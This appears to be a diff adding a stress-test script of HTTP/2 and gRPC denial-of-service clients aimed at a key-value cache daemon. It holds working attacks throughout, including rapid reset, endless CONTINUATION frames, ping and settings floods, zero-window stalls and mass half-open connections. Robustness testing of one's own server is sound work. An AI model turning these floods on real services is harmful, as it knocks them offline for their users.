@@ -1,0 +1,238 @@
+"""Clients that do harm for as long as they run, each a process of its own: attackers.py NAME HOST:PORT.
+
+They take what processor time others leave (nice), as if they were elsewhere.
+"""
+
+import itertools
+import os
+import resource
+import socket
+import sys
+import threading
+import time
+
+import grpc
+import numpy as np
+
+from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM,
+                   WINDOW_UPDATE, Raw, data, frame, head, header, request, setting)
+from qkv.v1 import kv_cache_pb2 as kv
+from qkv.v1 import kv_cache_pb2_grpc, model_pb2, tensor_pb2
+
+APPEND, ATTEND, FETCH = (f"/qkv.v1.KvCache/{method}" for method in ("Append", "Attend", "Fetch"))
+CANCEL = b"\0\0\0\x08"
+STREAM_MOST = (1 << 31) - 1
+GREEDY = (("qkv-tenant", "greedy"),)
+
+
+def message(protobuf):
+    serialized = protobuf.SerializeToString()
+    return head(len(serialized)) + serialized
+
+
+def connections(address, **fields):
+    """One after the other, each as long as the daemon lets it live."""
+    while True:
+        try:
+            raw = Raw(address, keep=4096, **fields)
+        except OSError:
+            time.sleep(0.05)
+            continue
+        yield raw
+        raw.close()
+
+
+def flood(address, batches, *settings):
+    """So many bytes as the daemon takes; `batches()` makes them for a new connection."""
+    for raw in connections(address):
+        raw.greet(*settings)
+        for batch in batches():
+            if not raw.send(batch):
+                break
+
+
+def oversized_headers(address):
+    """A header of 1 MiB, in one block."""
+    block = request(ATTEND, ("x-large", "a" * (1 << 20)))
+    pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
+
+    def batches():
+        for stream in range(1, STREAM_MOST, 2):
+            frames = [frame(HEADERS, 0, stream, pieces[0])]
+            frames += [frame(CONTINUATION, 0, stream, piece) for piece in pieces[1:-1]]
+            yield b"".join([*frames, frame(CONTINUATION, END_HEADERS, stream, pieces[-1])])
+    flood(address, batches)
+
+
+def many_headers(address):
+    """Calls with 12 KiB of headers each, as many as go."""
+    block = request(ATTEND, *((f"x-{i}", "v" * 50) for i in range(180)))
+
+    def batches():
+        for stream in range(1, STREAM_MOST, 2):
+            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
+    flood(address, batches)
+
+
+def continuations(address):
+    """A block of headers that does not end."""
+    piece = header("x-more", "v" * 16000)
+
+    def batches():
+        yield frame(HEADERS, 0, 1, request(ATTEND))
+        while True:
+            yield frame(CONTINUATION, 0, 1, piece)
+    flood(address, batches)
+
+
+def windows(address):
+    """Calls whose answers fit no window, which is opened by a byte, shut and opened again."""
+    calls = message(kv.ListSessionsRequest())
+
+    def batches():
+        for stream in range(1, STREAM_MOST, 2):
+            yield (frame(HEADERS, END_HEADERS, stream, request("/qkv.v1.KvCache/ListSessions")) +
+                   data(stream, calls, END_STREAM) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") +
+                   setting((INITIAL_WINDOW_SIZE, stream % 3)))
+    flood(address, batches, (INITIAL_WINDOW_SIZE, 0))
+
+
+def rapid_reset(address):
+    """Calls that are cancelled as they are made."""
+    block = request(ATTEND)
+
+    def batches():
+        for first in range(1, STREAM_MOST, 200):
+            yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
+                           for stream in range(first, first + 200, 2))
+    flood(address, batches)
+
+
+def settings(address):
+    flood(address, lambda: itertools.repeat(setting((INITIAL_WINDOW_SIZE, 65535)) * 500))
+
+
+def pings(address):
+    flood(address, lambda: itertools.repeat(frame(PING, payload=b"12345678") * 500))
+
+
+def garbage(address):
+    for raw in connections(address):
+        raw.send(PREFACE + os.urandom(65536) if os.urandom(1)[0] % 2 else os.urandom(65536))
+
+
+def half_open(address, count):
+    """Calls on so many connections on which nothing is sent; those that are cut off come again."""
+    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
+    host, port = address.rsplit(":", 1)
+    calls = max(1, 2000 // count)
+    sent = PREFACE + setting() + b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, request(ATTEND)) for i in range(calls))
+    held = []
+    for i in range(count):
+        try:
+            # 4,000 of each address, which may have half of limit-connections
+            held.append(socket.create_connection((host, int(port)), source_address=(f"127.0.0.{2 + i // 4000}", 0)))
+            held[-1].sendall(sent)
+        except OSError:
+            pass
+    print(f"{len(held)} connections", flush=True)
+    while True:
+        time.sleep(1)
+
+
+def half_messages(address):
+    """Messages of 60 MiB that are never finished."""
+    for raw in connections(address):
+        raw.greet((INITIAL_WINDOW_SIZE, 1 << 20))
+        for stream in range(1, 41, 2):
+            raw.send(frame(HEADERS, END_HEADERS, stream, request(APPEND)))
+        for stream in range(1, 41, 2):
+            raw.upload(stream, 60 << 20, (60 << 20) - 1000, 0.3)
+
+
+def unread(address):
+    """Fetches of a session, none of whose rows are read."""
+    stub = greedy_session(address)[0]
+    sent = message(kv.FetchRequest(session="greedy"))
+    held = []
+    for _ in range(8):
+        raw = Raw(address, keep=4096)
+        held.append(raw)
+        raw.greet((INITIAL_WINDOW_SIZE, 0))
+        for stream in range(1, 1001, 2):
+            raw.send(frame(HEADERS, END_HEADERS, stream, request(FETCH, *GREEDY)) + data(stream, sent, END_STREAM))
+    print(f"{len(held)} connections of {stub}", flush=True)
+    while True:
+        time.sleep(1)
+
+
+def greedy_session(address):
+    stub = kv_cache_pb2_grpc.KvCacheStub(grpc.insecure_channel(address))
+    model = model_pb2.Model(name="greedy", layers=1, kv_heads=8, q_heads=32, key_dim=128, value_dim=128,
+                            dtype=tensor_pb2.DTYPE_FP16)
+    stub.RegisterModel(model_pb2.RegisterModelRequest(model=model), metadata=GREEDY)
+    try:
+        stub.OpenSession(kv.OpenSessionRequest(session="greedy", model="greedy"), metadata=GREEDY)
+    except grpc.RpcError:
+        pass
+    rows = np.random.default_rng(1).standard_normal((1024, 8, 128)).astype("<f2")
+    tensor = tensor_pb2.Tensor(dtype=tensor_pb2.DTYPE_FP16, dims=rows.shape, data=rows.tobytes())
+    at = stub.GetSession(kv.GetSessionRequest(session="greedy"), metadata=GREEDY).lengths[0]
+    for position in range(at, 8192, 1024):
+        item = kv.Item(session="greedy", position=position, k=tensor, v=tensor)
+        stub.Append(iter([kv.AppendRequest(items=[item])]), metadata=GREEDY)
+    return stub, tensor
+
+
+def appends_and_attends(address, threads=16):
+    """A tenant that appends and attends from as many threads as it likes."""
+    greedy_session(address)
+    queries = np.random.default_rng(2).standard_normal((16, 32, 128)).astype("<f2")
+    q = tensor_pb2.Tensor(dtype=tensor_pb2.DTYPE_FP16, dims=queries.shape, data=queries.tobytes())
+
+    def work(number):
+        stub, rows = greedy_session(address)
+        session, position = f"greedy-{number}", 0
+        while True:
+            try:
+                if position == 0:
+                    stub.OpenSession(kv.OpenSessionRequest(session=session, model="greedy"), metadata=GREEDY)
+                item = kv.Item(session=session, position=position, k=rows, v=rows)
+                stub.Append(iter([kv.AppendRequest(items=[item])]), metadata=GREEDY)
+                position += 1024
+                for _ in range(4):
+                    item = kv.Item(session="greedy", position=8192, q=q)
+                    stub.Attend(kv.AttendRequest(items=[item]), metadata=GREEDY)
+                if position >= 8192:
+                    stub.CloseSession(kv.CloseSessionRequest(session=session), metadata=GREEDY)
+                    position = 0
+            except grpc.RpcError:
+                time.sleep(0.01)
+
+    for number in range(threads):
+        threading.Thread(target=work, args=(number,), daemon=True).start()
+    while True:
+        time.sleep(1)
+
+
+ATTACKS = {
+    "oversized headers": oversized_headers,
+    "many headers": many_headers,
+    "continuations": continuations,
+    "windows": windows,
+    "rapid reset": rapid_reset,
+    "settings": settings,
+    "pings": pings,
+    "garbage": garbage,
+    "half-open calls, 1 connection": lambda address: half_open(address, 1),
+    "half-open calls, 100 connections": lambda address: half_open(address, 100),
+    "half-open calls, 10000 connections": lambda address: half_open(address, 10000),
+    "half messages": half_messages,
+    "unread answers": unread,
+    "appends and attends": appends_and_attends,
+}
+
+if __name__ == "__main__":
+    os.nice(19)
+    print("begins", flush=True)
+    ATTACKS[sys.argv[1]](sys.argv[2])
